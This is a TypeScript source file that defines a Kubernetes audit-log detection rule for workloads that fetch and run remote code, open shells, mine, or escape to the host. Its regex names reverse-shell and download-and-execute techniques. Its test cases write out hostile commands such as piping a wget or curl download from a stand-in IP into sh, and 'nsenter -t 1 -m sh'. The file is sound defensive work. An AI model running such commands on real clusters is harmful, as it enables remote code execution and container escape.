import { request } from '@/lib/library';
import type { BuiltInRule } from '../built-in-rule';
import { NOT_AT_HOME, PODS_OR_TEMPLATES, WRITTEN } from '../clauses';
import { IN_THE_POD, WHAT_ELSE_BY_USER } from '../next-questions';

export const workloadFetchesProgram: BuiltInRule = {
  kind: 'rule',
  name: 'workload-fetches-program',
  title: 'A workload that fetches what it runs',
  about:
    'The command of a pod, or of what makes pods, downloads and runs a script, opens a shell to an address, decodes what it runs, or mines.',
  level: 'high',
  confidence: 'high',
  types: ['audit'],
  techniques: ['T1610', 'T1059.004', 'T1105'],
  matrix: ['MS-TA9008', 'MS-TA9007'],
  falsePositives: 'Init containers that install a tool with curl and sh.',
  next: [WHAT_ELSE_BY_USER, IN_THE_POD],
  q: String.raw`type:audit ${PODS_OR_TEMPLATES} ${WRITTEN} ${NOT_AT_HOME} pod.commands:/((curl|wget)\b.*\|\s*(ba|da|z|k)?sh\b|base64 (-d|-D|--decode)\b.*\||\/dev\/(tcp|udp)\/|mkfifo|\bn(c|cat)\b[^|;]* -[a-z]*e\b|stratum\+(tcp|ssl)|xmrig|\bnsenter\b|chroot \/(host|mnt|rootfs))/`,
  by: ['user', 'namespace'],
  hits: [
    request(
      { user: 'ann', verb: 'create', resource: 'cronjobs', namespace: 'shop', status: 201 },
      { 'pod.commands': 'sh -c wget -qO- http://203.0.113.9/c | sh' },
    ),
    request(
      { user: 'ann', verb: 'create', resource: 'pods', namespace: 'shop', status: 201 },
      { 'pod.commands': 'nsenter -t 1 -m sh' },
    ),
  ],
  misses: [
    request(
      { user: 'ann', verb: 'create', resource: 'pods', namespace: 'shop', status: 201 },
      { 'pod.commands': 'wget http://api/health' },
    ),
    request(
      { user: 'ann', verb: 'create', resource: 'pods', namespace: 'shop', status: 403 },
      { 'pod.commands': 'sh -c curl http://203.0.113.9/c | sh' },
    ),
  ],
};
